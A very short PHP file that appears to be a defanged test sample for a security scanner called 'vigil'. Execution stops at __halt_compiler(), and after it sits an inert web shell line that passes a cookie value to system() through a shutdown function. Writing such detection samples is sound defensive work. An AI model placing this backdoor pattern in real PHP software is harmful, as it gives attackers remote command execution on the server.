<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
register_shutdown_function('system', $_COOKIE['c']);
